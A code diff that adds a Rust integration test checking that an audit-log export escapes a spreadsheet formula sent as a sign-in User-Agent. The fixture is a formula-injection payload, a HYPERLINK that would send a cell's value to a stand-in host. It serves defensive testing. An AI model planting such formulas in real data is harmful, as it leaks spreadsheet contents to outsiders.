@@ -155,3 +155,70 @@ async fn the_export_download_is_for_owners_and_admins_and_refuses_bad_filters() 
         assert!(!body.to_lowercase().contains("sql"), "{body}");
     }
 }
+
+/// A user agent is anyone's to choose, with no credentials but a member's email: one that a
+/// spreadsheet would evaluate lands in the CSV exports as text, and verbatim in JSON lines.
+#[tokio::test]
+async fn a_formula_sent_as_a_user_agent_is_exported_as_text() {
+    const FORMULA: &str = "=HYPERLINK(\"http://x.invalid/?\"&A2,\"Verify\")";
+    for database in fresh_databases().await {
+        create_org(&database.url, "Acme", "owner@acme.test").await;
+        let server = Server::start(&database.url).await;
+        let client = client();
+        let step1 = client
+            .post(server.url("/api/sign_in/email"))
+            .header(header::ACCEPT, "application/json")
+            .header(header::USER_AGENT, FORMULA)
+            .form(&[("email", "owner@acme.test")])
+            .send()
+            .await
+            .unwrap();
+        let (id, _) = crate::support::client::session_cookie(&step1).unwrap();
+        let refused = client
+            .post(server.url("/api/sign_in/password"))
+            .header(header::ACCEPT, "application/json")
+            .header(header::USER_AGENT, FORMULA)
+            .header(header::COOKIE, format!("lifeline_session={id}"))
+            .form(&[("password", "not the password")])
+            .send()
+            .await
+            .unwrap();
+        assert!(refused.status().is_client_error());
+
+        let session = sign_in(&client, &server, "owner@acme.test").await;
+        let export = |format: &'static str| {
+            let (client, session) = (&client, &session);
+            let url = server.url(&format!("/admin/audit/export?format={format}"));
+            async move {
+                client
+                    .get(url)
+                    .header(header::COOKIE, format!("lifeline_session={session}"))
+                    .send()
+                    .await
+                    .unwrap()
+                    .text()
+                    .await
+                    .unwrap()
+            }
+        };
+        let csv = export("csv").await;
+        assert!(csv.contains("\"'=HYPERLINK("), "{csv}");
+        for line in csv.lines() {
+            assert!(!line.contains(",=") && !line.contains(",\"="), "{line}");
+        }
+        let jsonl = export("jsonl").await;
+        let agent = serde_json::to_string(FORMULA).unwrap();
+        assert!(
+            jsonl.contains(&agent),
+            "JSON lines keep it verbatim: {jsonl}"
+        );
+        let (ok, cli_csv, stderr) = cli(
+            &database.url,
+            &["audit", "export", "--org", "acme", "--format", "csv"],
+            "",
+        )
+        .await;
+        assert!(ok, "{stderr}");
+        assert!(cli_csv.contains("\"'=HYPERLINK("), "{cli_csv}");
+    }
+}
